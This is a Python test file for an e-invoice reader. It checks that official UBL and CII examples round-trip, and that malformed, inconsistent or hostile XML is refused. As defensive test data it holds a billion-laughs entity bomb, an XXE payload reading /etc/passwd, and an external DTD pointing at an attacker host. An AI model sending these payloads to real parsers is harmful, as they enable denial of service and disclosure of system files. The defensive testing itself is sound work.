"""Reading received e-invoices: the official examples import without loss, and what is not
well-formed, hostile, unsupported or wrong in its totals is refused with what and where."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from paylink import ValidationError
from paylink.einvoice import read, to_cii, to_ubl

from .conftest import Validate, artefacts_dir

EXAMPLES = sorted(
    (artefacts_dir() / "examples").glob("*/*.xml")
    if (artefacts_dir() / "examples").is_dir()
    else []
)


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.name for p in EXAMPLES])
def test_official_examples_round_trip(path: Path, artefacts: Path, assert_valid: Validate) -> None:
    received = read(path.read_bytes())
    original = received.document
    write = to_ubl if received.syntax == "ubl" else to_cii
    again = write(original)
    assert_valid(again, f"roundtrip-{path.name}")
    copy = read(again).document
    assert copy.totals == original.totals
    assert copy.vat_breakdown == original.vat_breakdown
    assert copy.seller == original.seller
    assert copy.buyer == original.buyer
    assert copy.lines == original.lines
    assert copy.allowances_charges == original.allowances_charges
    assert (copy.number, copy.issue_date, copy.due_date, copy.kind) == (
        original.number, original.issue_date, original.due_date, original.kind,
    )  # fmt: skip
    assert copy.payment == original.payment
    assert (copy.buyer_reference, copy.order_reference, copy.preceding_invoice) == (
        original.buyer_reference, original.order_reference, original.preceding_invoice,
    )  # fmt: skip


def test_examples_are_there(artefacts: Path) -> None:
    assert len(EXAMPLES) >= 14


def _example(artefacts: Path) -> bytes:
    return (artefacts / "examples" / "ubl" / "base-example.xml").read_bytes()


def test_not_well_formed_says_where() -> None:
    with pytest.raises(ValidationError, match=r"not well-formed XML at line 3, column \d+"):
        read(b'<?xml version="1.0"?>\n<Invoice>\n  <ID>1</Iden>\n</Invoice>')
    with pytest.raises(ValidationError, match="not well-formed"):
        read(b"")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol9;</Invoice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>"""

DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, DTD_ONLY],
                         ids=["billion-laughs", "external-entity", "external-dtd"])  # fmt: skip
def test_doctype_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(ValidationError, match="DOCTYPE"):
        read(data)


def test_doctype_hidden_inside_a_real_invoice_is_refused(artefacts: Path) -> None:
    data = _example(artefacts).replace(
        b"<Invoice ", b'<!DOCTYPE Invoice [<!ENTITY x "y">]>\n<Invoice ', 1
    )
    with pytest.raises(ValidationError, match="DOCTYPE"):
        read(data)


def test_unsupported_root() -> None:
    with pytest.raises(ValidationError, match=r"root element <Order>.*not a UBL 2.1 Invoice"):
        read(b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>')
    with pytest.raises(ValidationError, match="no namespace"):
        read(b"<Invoice/>")


def test_totals_that_do_not_add_up_are_refused(artefacts: Path) -> None:
    data = _example(artefacts)
    wrong = re.sub(
        rb'<cbc:PayableAmount currencyID="EUR">[^<]+<',
        b'<cbc:PayableAmount currencyID="EUR">1.00<',
        data,
    )
    assert wrong != data
    with pytest.raises(ValidationError, match=r"PayableAmount \(BT-115\) is 1.00 EUR") as raised:
        read(wrong)
    assert raised.value.field == "PayableAmount (BT-115)"
    # a line's net changed: the line total no longer is the sum of the lines
    wrong_line = data.replace(b'currencyID= "EUR">2800<', b'currencyID= "EUR">2799<', 1)
    assert wrong_line != data
    with pytest.raises(ValidationError, match=r"LineExtensionAmount \(BT-106\)"):
        read(wrong_line)


def test_missing_elements_are_named_by_path(artefacts: Path) -> None:
    data = re.sub(rb"<cbc:IssueDate>[^<]+</cbc:IssueDate>", b"", _example(artefacts), count=1)
    with pytest.raises(ValidationError, match="missing /Invoice/IssueDate"):
        read(data)
    data = (
        _example(artefacts)
        .replace(b"<cbc:PriceAmount", b"<cbc:PriceAmountX", 1)
        .replace(b"</cbc:PriceAmount>", b"</cbc:PriceAmountX>", 1)
    )
    with pytest.raises(
        ValidationError, match=r"/Invoice/InvoiceLine\[1\]/cac:Price/cbc:PriceAmount"
    ):
        read(data)


def test_a_pdf_without_factur_x_is_refused() -> None:
    from paylink.render import html_to_pdf

    pdf = html_to_pdf("<p>Just a PDF</p>")
    with pytest.raises(ValidationError, match="not a Factur-X"):
        read(pdf)
